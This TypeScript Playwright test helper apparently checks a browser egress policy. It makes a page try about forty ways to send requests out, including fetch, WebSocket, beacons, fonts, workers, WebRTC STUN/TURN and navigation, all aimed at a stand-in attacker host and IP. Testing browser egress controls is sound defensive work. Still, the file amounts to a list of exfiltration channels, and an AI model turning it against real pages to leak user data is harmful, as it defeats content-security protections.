import type { Page } from '@playwright/test'

/** Addresses that nobody has (RFC 2606, RFC 5737): what is seen of them came from here. */
const host = 'taken-over.example'
const address = '198.51.100.30'

/**
 * Everything a page can try to send something away with, as a page that was taken over would: what is refused throws, is
 * swallowed, or waits; only the recorder tells what left.
 *
 * @returns how many ways were tried
 */
export function tryEveryRequest(page: Page): Promise<number> {
  return page.evaluate(
    async ([name, ip]) => {
      const element = (tag: string, attributes: Record<string, string>): void => {
        const made = document.createElement(tag)
        for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value)
        document.body.append(made)
      }
      const link = (rel: string, more: Record<string, string> = {}): void =>
        element('link', { rel, href: `https://${rel}.${name}/`, ...more })
      const submit = (): void => {
        const form = document.createElement('form')
        form.action = `https://form.${name}/`
        document.body.append(form)
        form.submit()
      }
      const call = async (urls: string): Promise<void> => {
        const connection = new RTCPeerConnection({ iceServers: [{ urls, username: 'a', credential: 'b' }] })
        connection.createDataChannel('out')
        await connection.setLocalDescription(await connection.createOffer())
      }
      const frame = (src: string): void => element('iframe', { src })
      const ways: readonly (() => unknown)[] = [
        () => fetch(`https://fetch.${name}/`, { mode: 'no-cors' }),
        () => fetch(`http://${ip}/`, { mode: 'no-cors', keepalive: true }),
        () => new WebSocket(`wss://socket.${name}/`),
        () => new WebSocket(`ws://${ip}:8081/`),
        () => new EventSource(`https://events.${name}/`),
        () => new WebTransport(`https://${ip}:4433/`),
        () => navigator.sendBeacon(`https://beacon.${name}/`, 'x'),
        () => {
          const request = new XMLHttpRequest()
          request.open('GET', `https://xhr.${name}/`)
          request.send()
        },
        () => (new Image().src = `https://image.${name}/`),
        () => (new Audio().src = `https://audio.${name}/`),
        () => new FontFace('away', `url(https://font.${name}/)`).load(),
        () => import(/* @vite-ignore */ `https://module.${name}/x.js`),
        () => new Worker(`https://worker.${name}/x.js`),
        () => navigator.serviceWorker.register(`https://service.${name}/x.js`),
        ...['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'icon', 'manifest', 'stylesheet'].map(
          (rel) => () => link(rel),
        ),
        () => link('preload', { as: 'fetch' }),
        () => link('modulepreload'),
        () => element('object', { data: `https://object.${name}/` }),
        () => element('embed', { src: `https://embed.${name}/` }),
        () => element('video', { poster: `https://poster.${name}/`, src: `https://video.${name}/` }),
        () => element('a', { href: `https://anchor.${name}/`, ping: `https://ping.${name}/` }),
        () => element('div', { style: `background: url(https://background.${name}/)` }),
        () => frame(`https://frame.${name}/`),
        () => frame(`data:text/html,<link rel=dns-prefetch href=https://inner.${name}/>`),
        () => document.querySelector<HTMLAnchorElement>('a[ping]')?.click(),
        () => call(`stun:${ip}:3478`),
        () => call(`stun:stun.${name}:3478`),
        () => call(`turn:${ip}:3478?transport=tcp`),
        () => window.open(`https://window.${name}/`),
        () => submit(),
        () => (location.href = `https://location.${name}/`),
      ]
      for (const way of ways) {
        try {
          // Many wait for an answer that never comes.
          Promise.resolve(way()).catch(() => undefined)
        } catch {
          // Refused, as it should be.
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 3_000))
      return ways.length
    },
    [host, address] as const,
  )
}
